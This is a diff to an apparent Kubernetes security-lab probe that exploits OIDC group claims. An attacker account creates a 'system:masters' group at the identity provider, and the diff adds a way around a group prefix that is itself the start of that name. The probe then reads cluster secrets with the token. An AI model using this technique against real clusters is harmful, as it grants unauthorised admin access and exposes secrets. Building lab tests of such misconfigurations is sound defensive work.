@@ -3,8 +3,9 @@
 The apiserver takes a person's groups from their ID token. Without a prefix, a group of the provider
 and a group of the cluster with the same name are one. The attacker needs an ordinary account at the
 provider, and the right to name a group there, which many providers give everybody. They create the
-group ``system:masters``, log in, and show the apiserver the token. A prefix for groups stops it:
-the token then makes them a member of a group that nobody has given a right.
+group ``system:masters``, log in, and show the apiserver the token. With a prefix that is the start
+of that name, they create a group with the rest of it. Any other prefix for groups stops it: the
+token then makes them a member of a group that nobody has given a right.
 """
 
 from __future__ import annotations
@@ -57,7 +58,6 @@ __all__ = ["TECHNIQUE"]
 
 #: The account of the attacker, and that of a person whom nobody attacks.
 ATTACKER, PERSON = "mallory", "alice"
-GROUP = MASTERS
 #: Where the lab's own people have the provider's authority.
 AUTHORITY = "/etc/kubernetes/pki/oidc-ca.crt"
 #: Seconds until an apiserver that has just started knows the provider's keys: it asks every
@@ -101,8 +101,17 @@ def _known_as(env: Environment) -> Caller | None:
     provider = provider_of(env)
     if provider is None or provider.client is None:
         return None
-    claims = {"aud": [provider.client.name], "sub": ATTACKER, "groups": [GROUP]}
+    claims = {"aud": [provider.client.name], "sub": ATTACKER, "groups": [_group(env)]}
     return caller_by_id_token(env, apiserver_of(env), provider.issuer.value, claims)
+
+
+def _group(env: Environment) -> str:
+    """Return the name of a group that is ``system:masters`` behind its prefix, if one can be."""
+    for it in id_token_authenticators(env, apiserver_of(env)) or ():
+        mapping = it.groups
+        if mapping and not mapping.expression and MASTERS.startswith(mapping.prefix):
+            return MASTERS.removeprefix(mapping.prefix) or MASTERS
+    return MASTERS
 
 
 def execute(lab: Lab, foothold: Foothold) -> Verdict:
@@ -110,9 +119,10 @@ def execute(lab: Lab, foothold: Foothold) -> Verdict:
     with legitimate():
         control = _person_is_known(lab)
     node, _, _ = execution_place(lab, foothold)
-    made = f"{ATTACKER} makes a group {GROUP} at {required_provider(lab).issuer.value}"
-    with leaving(lab, Trace("provider group", f"{GROUP} {ATTACKER}", node)):
-        said = log_in(lab, node, ATTACKER, group=GROUP)
+    group = _group(lab.environment)
+    made = f"{ATTACKER} makes a group {group} at {required_provider(lab).issuer.value}"
+    with leaving(lab, Trace("provider group", f"{group} {ATTACKER}", node)):
+        said = log_in(lab, node, ATTACKER, group=group)
         if "error" in said:
             raise ProbeError(f"{made}: {said['error']}")
         if "refused" in said:
@@ -123,11 +133,11 @@ def execute(lab: Lab, foothold: Foothold) -> Verdict:
                 raise ProbeError(f"{TECHNIQUE.name}: {answer.refusal} is no known refusal")
             return _verdict(lab, foothold, False, answer.refusal, made, control=control)
         user, groups = identity(answer)
-        mine = next((it for it in groups if it.endswith(GROUP)), "")
+        mine = next((it for it in groups if it.endswith(group)), "")
         if not mine:
             raise ProbeError(f"the apiserver knows {user} by no group of the token")
         known = f"the apiserver knows the token as {user}, in {mine}"
-        if mine != GROUP:
+        if mine != MASTERS:
             secrets = request(
                 lab, api_url(lab, SECRETS_IN), foothold=foothold, token=said["id_token"]
             )
